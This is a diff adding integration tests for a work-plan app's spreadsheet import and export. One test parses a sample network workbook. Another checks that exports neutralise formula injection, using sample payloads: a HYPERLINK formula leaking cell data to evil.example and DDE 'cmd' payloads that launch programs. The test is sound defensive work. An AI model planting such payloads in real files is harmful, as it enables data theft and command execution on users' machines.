@@ -1,8 +1,9 @@
 import type { ImportPreviewDto, WorkItemListDto, WorkPlanDto } from '@plexus/contracts';
+import { parseDelimited } from '@plexus/server';
 import { Workbook } from 'exceljs';
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { parseDelimited } from '../../apps/api/src/work-plan/transfer/table-reader';
+import { networkWorkbook } from '../fixtures/workbooks';
 import { createTestDatabase, HttpClient, newNetwork, startApi, type Fixture, type TestApi, type TestDatabase } from '../support/harness';
 
 const fixture = (name: string) => readFileSync(join(__dirname, '../fixtures/work-plan', name));
@@ -284,5 +285,74 @@ describe('work plans: import and export', () => {
       ['Rich text work', '2024-03-31', 'date'],
       ['Formula work', 'Q1 2024/25', 'range'],
     ]);
+  });
+  it('understands a real network workbook: merged banners become themes, references are kept, leads split, RAG fills become statuses', async () => {
+    const plan = await newPlan('Network workbook');
+    const res = await manager.request('POST', `${base}/plans/${plan.id}/import/preview`, upload(Buffer.from(networkWorkbook()), 'work-plan.xlsx'));
+    expect(res.status).toBe(200);
+    const p = res.body as ImportPreviewDto;
+    expect(p).toMatchObject({ format: 'xlsx', ok: true, fileProblems: [], summary: { items: 4, themes: 2 } });
+    expect(p.columns.map((c) => c.field)).toEqual(['reference', 'objective', 'work', 'leads', 'timescale']);
+    expect(p.notes).toEqual([
+      "Row 3 'Capacity and Flow' spans the table: used as a theme.",
+      "Row 6 'Workforce' spans the table: used as a theme.",
+      "References kept from column A ('Ref') for 4 rows: the items keep them rather than being numbered.",
+      'Leads split at "/" or line breaks in 3 rows.',
+      "Status taken from cell colour in column A ('Ref') for 4 rows.",
+    ]);
+    expect(p.rows.map((r) => [r.row, r.reference, r.theme, r.status])).toEqual([
+      [4, '1.1', 'Capacity and Flow', 'off_track'],
+      [5, '1.2', 'Capacity and Flow', 'at_risk'],
+      [7, '3.4', 'Workforce', 'on_track'],
+      [8, '3.5', 'Workforce', 'complete'],
+    ]);
+
+    const imported = await manager.request('POST', `${base}/plans/${plan.id}/import`, upload(Buffer.from(networkWorkbook()), 'work-plan.xlsx'));
+    expect(imported.status).toBe(201);
+    const tree = (await manager.get(`${base}/plans/${plan.id}`)).body as WorkPlanDto;
+    expect(tree.themes.map((t) => t.title)).toEqual(['Capacity and Flow', 'Workforce']);
+    const items = tree.themes.flatMap((t) => [...t.items, ...t.objectives.flatMap((o) => o.items)]);
+    expect(items.map((i) => [i.ref, i.work, i.leads.map((l) => l.label), i.status])).toEqual([
+      ['1.1', 'Publish a monthly capacity dashboard', [`Network Manager (${a.users.manager.displayName})`, 'Information Analyst'], 'off_track'],
+      ['1.2', 'Agree repatriation standards with every trauma unit', ['Network Chair', `Network Manager (${a.users.manager.displayName})`], 'at_risk'],
+      ['3.4', 'Run the annual rehabilitation study day', ['Rehab Lead', `Network Manager (${a.users.manager.displayName})`], 'on_track'],
+      ['3.5', 'Publish the competency framework', ['Rehab Lead'], 'complete'],
+    ]);
+    expect(tree.themes[0].objectives.map((o) => o.title)).toEqual(['Reduce delays to definitive care']);
+    // The references go out in the export and come back in on import.
+    const csv = parseDelimited((await download(manager, `${base}/plans/${plan.id}/export?format=csv`)).bytes.toString('utf8').replace(/^\uFEFF/, ''), ',');
+    expect(csv[0].at(-1)).toBe('Ref');
+    expect(csv.slice(1).map((r) => r.at(-1))).toEqual(['1.1', '1.2', '3.4', '3.5']);
+  });
+
+  it('neutralises every formula-like cell in the CSV and Excel exports, and imports them back as written', async () => {
+    let plan = await newPlan('Formulas');
+    plan = (await manager.post(`${base}/plans/${plan.id}/themes`, { title: '+Theme starting with a plus', description: '@description' })).body;
+    const themeId = plan.themes[0].id;
+    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Click here")', "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '+1+1', '@SUM(A1:A2)'];
+    for (const work of hostile) expect((await manager.post(`${base}/plans/${plan.id}/items`, { themeId, work, measures: ['+10% waits'], timescale: 'Q1 2024/25' })).status).toBe(201);
+
+    const csvBytes = (await download(manager, `${base}/plans/${plan.id}/export?format=csv`)).bytes;
+    const rows = parseDelimited(csvBytes.toString('utf8').replace(/^\uFEFF/, ''), ',').slice(1);
+    expect(rows.map((r) => r[4])).toEqual(hostile.map((w) => `'${w}`));
+    expect(rows.every((r) => r[0] === "'+Theme starting with a plus" && r[1] === "'@description" && r[5] === "'+10% waits")).toBe(true);
+    const formulaLike = /^[=+\-@\t\r]/;
+    expect(rows.flat().filter((cell) => formulaLike.test(cell))).toEqual([]);
+
+    const xlsxBytes = (await download(manager, `${base}/plans/${plan.id}/export?format=xlsx&layout=flat`)).bytes;
+    const book = new Workbook();
+    await book.xlsx.load(xlsxBytes as unknown as ArrayBuffer);
+    const cells: string[] = [];
+    for (const sheet of book.worksheets) sheet.eachRow((row) => row.eachCell((cell) => cells.push(String(cell.value))));
+    expect(cells.filter((cell) => formulaLike.test(cell))).toEqual([]);
+    expect(cells).toEqual(expect.arrayContaining(hostile.map((w) => `'${w}`)));
+
+    for (const [bytes, name] of [[csvBytes, 'formulas.csv'], [xlsxBytes, 'formulas.xlsx']] as const) {
+      const copy = await newPlan(`Formulas copy ${name}`);
+      expect((await manager.request('POST', `${base}/plans/${copy.id}/import`, upload(bytes, name))).status).toBe(201);
+      const tree = (await manager.get(`${base}/plans/${copy.id}`)).body as WorkPlanDto;
+      expect(tree.themes.map((t) => [t.title, t.description])).toEqual([['+Theme starting with a plus', '@description']]);
+      expect(tree.themes[0].items.map((i) => [i.work, i.measures])).toEqual(hostile.map((w) => [w, ['+10% waits']]));
+    }
   });
 });
